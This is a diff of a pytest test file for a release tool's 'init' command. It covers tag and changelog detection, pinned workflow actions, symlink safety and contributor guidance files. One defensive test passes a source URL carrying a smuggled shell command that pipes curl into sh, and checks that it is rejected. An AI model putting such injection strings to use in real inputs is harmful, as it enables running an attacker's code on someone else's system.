@@ -1,7 +1,8 @@
-"""`relbot init`: sets up, overwrites nothing, and what it writes is valid."""
+"""`relbot init`: reads the repository, says what it found, sets up what fits, and overwrites nothing."""
 
 from __future__ import annotations
 
+import json
 import shlex
 import tomllib
 from typing import TYPE_CHECKING
@@ -9,8 +10,12 @@ from typing import TYPE_CHECKING
 import pytest
 import yaml
 
+from relbot.adoption.relbot_source import FromAction, FromNowhere, FromRequirement, find_source
+from relbot.adoption.tag_spellings import find_spellings
+from relbot.config.model import Versions
 from relbot.config.read import read_config
 from tests.cli.fragments import FIXED, tree
+from tests.cli.test_new import on_terminal
 
 if TYPE_CHECKING:
     from pathlib import Path
@@ -18,55 +23,109 @@ if TYPE_CHECKING:
     from tests.commandline import Run
     from tests.repository import Repo
 
-THREE = {"tag": "{version}", "changelog": "HISTORY.md", "rules": {"preset": ["go-service"]}}
-FILES = [
-    "relbot.toml",
-    "changes/README.md",
-    ".github/workflows/relbot.yml",
-    ".github/workflows/relbot-fragments.yml",
-    ".github/workflows/relbot-comment.yml",
-]
+COMMIT = "5" * 40
+ACTION = ("--action", f"someone/relbot@{COMMIT} # v0.1.0")
+WORKFLOWS = [f".github/workflows/relbot{name}.yml" for name in ("", "-fragments", "-comment")]
+OURS = ["relbot.toml", "changes/README.md"]
+FILES = [*OURS, *WORKFLOWS]
+HUB = "git@github.com:acme/widgets.git"
+
+
+def written(out: str) -> list[str]:
+    return [line.split()[1] for line in out.splitlines() if line.startswith("written ")]
+
+
+def config(repo: Repo) -> dict[str, object]:
+    return tomllib.loads((repo.path / "relbot.toml").read_text())
 
 
 def test_it_writes_its_files_and_stages_none(repo: Repo, relbot: Run) -> None:
-    done = relbot("init")
+    done = relbot("init", *ACTION)
     assert (done.code, done.err) == (0, "")
-    assert done.out.splitlines()[: len(FILES)] == [f"written  {path}" for path in FILES]
+    assert written(done.out) == FILES
     assert sorted(repo.git("ls-files", "--others").splitlines()) == sorted(FILES)
     assert repo.git("ls-files") == ""
 
 
 def test_what_it_wrote_is_valid(repo: Repo, relbot: Run) -> None:
-    relbot("init")
+    relbot("init", *ACTION)
     assert relbot("check").code == 0
     assert relbot("build", "--draft").code == 4
     assert read_config("relbot.toml", (repo.path / "relbot.toml").read_text()) is not None
-    workflows = [yaml.safe_load((repo.path / path).read_text()) for path in FILES[2:]]
+    workflows = [yaml.safe_load((repo.path / path).read_text()) for path in WORKFLOWS]
     jobs = {name: job for workflow in workflows for name, job in workflow["jobs"].items()}
     assert all(workflow["permissions"] == {} for workflow in workflows)
-    assert jobs["check"]["permissions"] == {"contents": "read", "pull-requests": "read"}
+    assert jobs["check"]["permissions"] == jobs["fragments"]["permissions"] | {"pull-requests": "read"}
     assert jobs["comment"]["permissions"] == {"contents": "read", "pull-requests": "write"}
     assert jobs["record"]["permissions"] == {"contents": "write", "pull-requests": "write"}
     assert "github.event.pull_request.merged" in jobs["record"]["if"]
-    assert [job["steps"][-1]["run"] for job in jobs.values()] == [
-        "relbot pr --no-comment",
+    action = {"uses": f"someone/relbot@{COMMIT}"}
+    assert [job["steps"][-1] for name, job in jobs.items() if name in ("comment", "record")] == [action, action]
+    assert jobs["check"]["steps"] == [{**action, "with": {"comment": "false"}}]
+    assert f"uses: someone/relbot@{COMMIT} # v0.1.0\n" in (repo.path / WORKFLOWS[0]).read_text()
+    assert [step.get("run") for step in jobs["fragments"]["steps"][-2:]] == [
+        f"pip install 'relbot @ git+https://github.com/someone/relbot@{COMMIT}'",
         "relbot check",
-        "relbot pr",
-        "relbot pr",
     ]
-    assert jobs["fragments"]["permissions"] == {"contents": "read"}
     reading = [name for name, job in jobs.items() if any("checkout" in step.get("uses", "") for step in job["steps"])]
     assert reading == ["fragments"]  # which runs what was merged, and no pull request
 
 
-def test_every_line_that_is_commented_out_is_valid(repo: Repo, relbot: Run) -> None:
-    relbot("init")
-    config = repo.path / "relbot.toml"
-    lines = config.read_text().splitlines()
-    used = [line.removeprefix("# ") for line in lines if line.startswith("# ") and ("=" in line or line.startswith("# ["))]
-    config.write_text("\n".join(used) + "\n")
-    assert set(tomllib.loads(config.read_text())) >= {"directory", "changelog", "types", "components", "links", "rules"}
-    assert relbot("check").code == 0
+def test_without_knowing_where_relbot_is_there_is_no_workflow(repo: Repo, relbot: Run) -> None:
+    """First hour F1: a workflow that installs a name from an index runs the code of whoever registers it."""
+    repo.git("remote", "add", "origin", HUB)
+    done = relbot("init")
+    assert (done.code, written(done.out)) == (0, OURS)
+    assert "relbot init --action OWNER/relbot@COMMIT" in done.out
+
+
+@pytest.mark.parametrize(
+    "action", ["someone/relbot", "someone/relbot@v1", "someone/relbot@main", f"someone/relbot@{COMMIT[:12]}"]
+)
+def test_an_action_that_can_be_moved_is_refused(repo: Repo, relbot: Run, action: str) -> None:
+    refused = relbot("init", "--action", action)
+    assert refused.code == 2
+    assert "40 digits" in refused.err
+    assert not (repo.path / "relbot.toml").exists()
+
+
+def test_a_hash_makes_a_requirement_that_nothing_else_can_take_the_place_of() -> None:
+    digest = f"sha256:{'a' * 64}"
+    git = {"vcs_info": {"vcs": "git", "commit_id": COMMIT}}
+    told: list[tuple[dict[str, object] | None, tuple[str, ...], object]] = [
+        (None, (digest,), FromRequirement("relbot==1.2", (digest,))),
+        ({"url": "https://github.com/acme/relbot.git", **git}, (), FromAction("acme/relbot", COMMIT, "v1.2")),
+        ({"url": "https://git.example.org/relbot", **git}, (), FromRequirement(f"relbot @ git+https://git.example.org/relbot@{COMMIT}")),
+        ({"url": "https://example.org/r.whl", "archive_info": {"hashes": {"sha256": "a" * 64}}}, (),
+         FromRequirement("relbot @ https://example.org/r.whl", (digest,))),
+    ]  # fmt: skip
+    for url, hashes, source in told:
+        assert find_source("1.2", None if url is None else json.dumps(url), hashes, installed=True) == source
+    unknown: list[dict[str, object] | None] = [
+        None,
+        {"url": "file:///home/me/relbot", "dir_info": {"editable": True}},
+        {"url": "https://example.org/r.whl", "archive_info": {}},
+        {"url": "file:///home/me/relbot", **git},
+        {"url": "https://me:secret@git.example.org/relbot", **git},
+        {"url": "https://git.example.org/'; curl x | sh; '", **git},
+    ]
+    for url in unknown:
+        found = find_source("1.2", None if url is None else json.dumps(url), (), installed=True)
+        assert isinstance(found, FromNowhere), url
+    assert isinstance(find_source("1.2", "[", (), installed=True), FromNowhere)
+    assert isinstance(find_source("1.2", None, (digest,), installed=False), FromNowhere)
+
+
+@pytest.mark.parametrize(
+    ("remote", "said"),
+    [("https://gitlab.com/acme/widgets.git", "this is GitLab"), ("https://codeberg.org/acme/widgets", "another forge")],
+)
+def test_elsewhere_than_on_github_it_says_what_to_run(repo: Repo, relbot: Run, remote: str, said: str) -> None:
+    repo.git("remote", "add", "origin", remote)
+    done = relbot("init", *ACTION)
+    assert written(done.out) == OURS
+    assert said in done.out
+    assert "relbot check --base origin/main" in done.out
 
 
 def test_the_examples_in_the_readme_are_fragments(repo: Repo, relbot: Run) -> None:
@@ -84,25 +143,48 @@ def test_it_overwrites_nothing(repo: Repo, relbot: Run) -> None:
     for path in FILES:
         repo.write(path, "# mine\n")
     before = tree(repo)
-    done = relbot("init")
+    done = relbot("init", *ACTION)
     assert done.code == 0
-    assert [line.split()[0] for line in done.out.splitlines()[:2]] == ["kept", "kept"]
+    assert written(done.out) == []
     assert tree(repo) == before
 
 
 @pytest.mark.parametrize("path", FILES)
 def test_it_writes_what_is_missing_and_keeps_the_rest(repo: Repo, relbot: Run, path: str) -> None:
     repo.write(path, "# mine\n")
-    assert relbot("init").code == 0
+    assert relbot("init", *ACTION).code == 0
     assert (repo.path / path).read_text() == "# mine\n"
     assert all((repo.path / other).is_file() for other in FILES)
 
 
-def test_a_second_run_changes_nothing(repo: Repo, relbot: Run) -> None:
-    relbot("init")
+def test_a_second_run_changes_nothing_and_says_what_would_be_different(repo: Repo, relbot: Run) -> None:
+    relbot("init", *ACTION, "--yes")
     before = tree(repo)
-    assert relbot("init").code == 0
+    again = relbot("init", "--yes")
+    assert again.code == 0
     assert tree(repo) == before
+    assert "different" not in again.out
+    assert "No GitHub workflow" not in again.out  # the one that is there says where relbot is
+    repo.commit("Begin")
+    repo.tag("release-1.0")
+    repo.write(WORKFLOWS[0], (repo.path / WORKFLOWS[0]).read_text().replace("merge_group:", ""))
+    before = tree(repo)
+    told = relbot("init")
+    assert tree(repo) == before
+    assert 'tag = "release-{version}"' in told.out
+    assert f"{WORKFLOWS[0]} would be different now" in told.out
+    assert "+  merge_group:" in told.out
+    assert relbot("init", "--replace").code == 0
+    assert "merge_group:" in (repo.path / WORKFLOWS[0]).read_text()
+
+
+def test_a_workflow_of_an_older_relbot_is_named(repo: Repo, relbot: Run) -> None:
+    repo.git("remote", "add", "origin", HUB)
+    repo.write(WORKFLOWS[0], "jobs:\n  check:\n    steps:\n      - run: pip install relbot==0.1.0\n      - run: relbot pr\n")
+    told = relbot("init")
+    assert "installs `relbot==0.1.0`" in told.out
+    assert relbot("init", "--replace", *ACTION).code == 0
+    assert "relbot==0.1.0" not in (repo.path / WORKFLOWS[0]).read_text()
 
 
 def test_a_configuration_in_pyproject_is_enough(repo: Repo, relbot: Run) -> None:
@@ -116,16 +198,18 @@ def test_a_configuration_in_pyproject_is_enough(repo: Repo, relbot: Run) -> None
 
 def test_a_link_is_not_followed(repo: Repo, relbot: Run) -> None:
     outside = repo.path.parent / "outside"
+    outside.write_text("mine\n")
     (repo.path / "changes").mkdir()
     (repo.path / "changes/README.md").symlink_to(outside)
-    assert relbot("init").code == 0
-    assert not outside.exists()
+    (repo.path / "AGENTS.md").symlink_to(outside)
+    assert relbot("init", "--yes", "--replace").code == 0
+    assert outside.read_text() == "mine\n"
 
 
 def test_a_folder_that_is_a_file_is_told_and_nothing_is_changed(repo: Repo, relbot: Run) -> None:
     repo.write(".github", "a file\n")
     before = tree(repo)
-    refused = relbot("init")
+    refused = relbot("init", *ACTION)
     assert refused.code == 3
     assert ".github" in refused.err
     assert tree(repo) == before
@@ -138,6 +222,7 @@ def test_fragments_that_are_there_stay(repo: Repo, relbot: Run) -> None:
 
 
 def test_outside_of_git_it_writes_nothing(tmp_path: Path, relbot: Run) -> None:
+    """First hour F2."""
     folder = tmp_path / "alone"
     folder.mkdir()
     refused = relbot("init", cwd=folder)
@@ -146,47 +231,157 @@ def test_outside_of_git_it_writes_nothing(tmp_path: Path, relbot: Run) -> None:
     assert not list(folder.iterdir())
 
 
-def test_the_command_that_it_names_next_works_on_main(repo: Repo, relbot: Run) -> None:
+def test_the_commands_that_it_names_next_work_on_main(repo: Repo, relbot: Run) -> None:
+    """First hour F2: the one that it named said "What shall the fragment be called?"."""
     repo.commit("Begin")
-    command = relbot("init").out.rpartition("Next: relbot ")[2]
-    assert relbot(*shlex.split(command)).code == 0
-    assert relbot("check").code == 0
+    commands = relbot("init").out.rpartition("Next:\n")[2].splitlines()
+    assert len(commands) == 3
+    for command in commands:
+        assert relbot(*shlex.split(command)[1:]).code == 0, command
+
+
+def test_what_it_writes_asks_for_nothing_but_what_the_diff_shows(repo: Repo, relbot: Run) -> None:
+    """First hour F3: a typo in the docs, and the pull request that adds relbot itself."""
+    repo.write("README.md", "A tpyo.\n")
+    base = repo.commit("Begin")
+    relbot("init", *ACTION, "--yes")
+    repo.commit("Adopt relbot")
+    assert relbot("check", "--base", base).out == ""
+    repo.write("README.md", "A typo.\n")
+    repo.commit("Mend a typo")
+    assert relbot("check", "--base", "HEAD~1").out == ""
+
+
+THREE = {"tag": "{version}", "changelog": "HISTORY.md", "rules": {"preset": ["go-service"]}}
+KEPT = "# Changes\n\n## [Unreleased]\n\n- A.\n- B.\n\n## [1.1.0] - 2018-08-15\n\n- C.\n"
+TOWN = "Widgets\n=======\n\n.. towncrier release notes start\n\nWidgets 1.1 (2018-08-15)\n------------------------\n\n- C.\n"
+PARTS = {
+    "components": {
+        "api": {"changelog": "packages/api/CHANGELOG.md", "tag": "{component}@{version}"},
+        "web": {"tag": "{component}@{version}"},
+    }
+}
 
 
 @pytest.mark.parametrize(
     ("files", "tags", "keys"),
     [
-        ((), ("1.0.0", "1.1.0", "nightly"), {"tag": "{version}"}),
-        ((), ("release-1.0", "release-1.1", "v0.1"), {"tag": "release-{version}"}),
-        ((), ("v1.0.0", "v1.1.0"), {}),
-        (("CHANGES.rst",), (), {"changelog": "CHANGES.rst"}),
-        (("CHANGELOG.md", "NEWS.md"), (), {}),
-        (("debian/changelog",), (), {"changelog": "debian/changelog"}),
-        (("manage.py", "package.json"), (), {"rules": {"preset": ["django"]}}),
-        (("HISTORY.md", "go.mod"), ("2.0",), THREE),
+        ({}, ("1.0.0", "1.1.0", "nightly"), {"tag": "{version}"}),
+        ({}, ("release-1.0", "release-1.1", "v0.1"), {"tag": "release-{version}"}),
+        ({}, ("app@1.0.0", "app@1.1.0"), {"tag": "app@{version}"}),
+        ({}, ("v1.0.0", "v1.1.0", "20180815", "build-7"), {}),
+        ({"packages/api/CHANGELOG.md": ""}, ("api@1.0.0", "web@2.0.0", "api@1.1.0"), PARTS),
+        ({"CHANGES.rst": ""}, (), {"changelog": "CHANGES.rst"}),
+        ({"CHANGELOG.md": KEPT}, (), {"title": "[{version}] - {date}"}),
+        ({"CHANGES.rst": TOWN}, (), {"changelog": "CHANGES.rst", "title": "Widgets {version} ({date})",
+                                     "marker": ".. towncrier release notes start"}),
+        ({"CHANGELOG.md": "", "NEWS.md": ""}, (), {}),
+        ({"CHANGELOG.adoc": ""}, (), {}),
+        ({"debian/changelog": ""}, (), {"changelog": "debian/changelog"}),
+        ({"manage.py": "", "package.json": ""}, (), {"rules": {"preset": ["django"]}}),
+        ({"HISTORY.md": "", "go.mod": ""}, ("2.0",), THREE),
     ],
 )  # fmt: skip
 def test_the_configuration_has_what_differs_from_the_defaults(
-    repo: Repo, relbot: Run, files: tuple[str, ...], tags: tuple[str, ...], keys: dict[str, object]
+    repo: Repo, relbot: Run, files: dict[str, str], tags: tuple[str, ...], keys: dict[str, object]
 ) -> None:
-    for path in files:
-        repo.write(path, "Old.\n")
+    for path, text in files.items():
+        repo.write(path, text or "Old.\n")
     repo.commit("Begin")
     for tag in tags:
-        repo.tag(tag)
+        repo.git("tag", tag)
     assert relbot("init").code == 0
-    assert tomllib.loads((repo.path / "relbot.toml").read_text()) == keys
+    assert config(repo) == keys
     assert relbot("check").code == 0
 
 
+def test_a_spelling_of_tags_that_was_given_up_does_not_count() -> None:
+    tags = [*(f"v3.{minor}" for minor in reversed(range(31))), *(f"1.{minor}" for minor in reversed(range(40)))]
+    assert [each.pattern for each in find_spellings(tags, Versions())] == ["v{version}"]
+    assert find_spellings(tags, Versions())[0].last == "3.30"
+
+
 def test_it_says_what_it_found(repo: Repo, relbot: Run) -> None:
-    for path in ("CHANGES.rst", "newsfragments/1.fixed", "manage.py"):
-        repo.write(path, "Old.\n")
+    files = {
+        "CHANGES.md": KEPT,
+        "newsfragments/1.fixed": "A.",
+        "pyproject.toml": '[project]\nname = "w"\nversion = "1.10.0"\n[tool.towncrier]\n',
+        ".changeset/config.json": "{}",
+        "releasenotes/notes/a.yaml": "fixes: [A]",
+        "manage.py": "",
+        "Procfile": "web: x\nrelease: y\n",
+        "debian/w.service": "[Service]\n",
+    }
+    for path, text in files.items():
+        repo.write(path, text)
     repo.commit("Begin")
     for tag in ("1.9.0", "1.10.0", "nightly"):
         repo.tag(tag)
+    repo.git("remote", "add", "origin", HUB)
     said = relbot("init").out
-    assert "2 of 3 tags are named like `{version}`; the highest is 1.10.0." in said
-    assert "The changelog is CHANGES.rst." in said
-    assert "newsfragments/ has notes of towncrier." in said
-    assert "the preset `django` fits" in said
+    for sentence in (
+        "2 of 3 tags are named like `{version}`; the highest is 1.10.0.",
+        "The changelog is CHANGES.md, with headings like `[{version}] - {date}`.",
+        "CHANGES.md has a part that is not released, with 2 items. `relbot import keep-a-changelog` makes",
+        "newsfragments/ has 1 note of towncrier. `relbot import towncrier` takes",
+        "`relbot import changesets`",
+        "releasenotes/notes/ has 1 note of reno.",
+        "pyproject.toml has version 1.10.0 of w.",
+        "is on GitHub",
+        "The default branch is main.",
+        "the preset `django` fits",
+        "Procfile declares web, w.",
+    ):
+        assert sentence in said
+
+
+def test_authors_are_told_where_they_look_and_only_once(repo: Repo, relbot: Run) -> None:
+    files = {"docs/CONTRIBUTING.rst": "Help\n====\n\nCode\n^^^^\n\nText.\n", ".github/PULL_REQUEST_TEMPLATE.md": "What?\r\n"}
+    for path, text in files.items():
+        repo.write(path, text)
+    repo.commit("Begin")
+    done = relbot("init", "--yes")
+    assert [line.split()[1] for line in done.out.splitlines() if line.startswith("changed ")] == [
+        ".github/PULL_REQUEST_TEMPLATE.md",
+        "docs/CONTRIBUTING.rst",
+    ]
+    assert "AGENTS.md" in written(done.out)
+    page = (repo.path / "docs/CONTRIBUTING.rst").read_text()
+    assert page.startswith(files["docs/CONTRIBUTING.rst"])
+    assert "Change notes\n^^^^^^^^^^^^\n" in page
+    for text in (page, (repo.path / "AGENTS.md").read_text()):
+        assert "relbot check --base main" in text
+        assert "phase: before-restart" in text
+    assert b"\r\n<!-- Will users or operators" in (repo.path / ".github/PULL_REQUEST_TEMPLATE.md").read_bytes()
+    before = tree(repo)
+    repo.write("AGENTS.md", before["AGENTS.md"].replace(b"need none", b"need no note") + b"\nMine.\n")
+    assert relbot("init", "--yes").code == 0
+    assert relbot("init", "--tell", "agents").code == 0
+    assert tree(repo) == before | {"AGENTS.md": before["AGENTS.md"] + b"\nMine.\n"}
+
+
+def test_the_examples_for_authors_are_fragments(repo: Repo, relbot: Run) -> None:
+    relbot("init", "--tell", "agents")
+    blocks = (repo.path / "AGENTS.md").read_text().split("```markdown\n")[1:]
+    for number, block in enumerate(blocks):
+        repo.write(f"changes/{number}.md", block.split("```")[0])
+    assert len(blocks) == 2
+    assert relbot("check").out == ""
+
+
+def test_on_a_terminal_it_asks_what_it_cannot_know(repo: Repo) -> None:
+    code, _, dialogue = on_terminal(repo, ["init", *ACTION], ["github", "ask", "n", "n", "y"])
+    assert code == 0, dialogue
+    assert config(repo) == {"rules": {"every-change": "ask"}}
+    assert (repo.path / "AGENTS.md").exists()
+    assert not (repo.path / "CONTRIBUTING.md").exists()
+    code, _, dialogue = on_terminal(repo, ["init", *ACTION], ["github", "n", "n"])
+    assert code == 0, dialogue
+    assert "each change" not in dialogue  # the configuration says it
+
+
+def test_the_options_answer_the_questions(repo: Repo, relbot: Run) -> None:
+    assert relbot("init", "--every-change", "require", "--forge", "github", "--tell", "contributing", *ACTION).code == 0
+    assert config(repo) == {"rules": {"every-change": "require"}}
+    assert (repo.path / "CONTRIBUTING.md").exists()
+    assert not (repo.path / "AGENTS.md").exists()
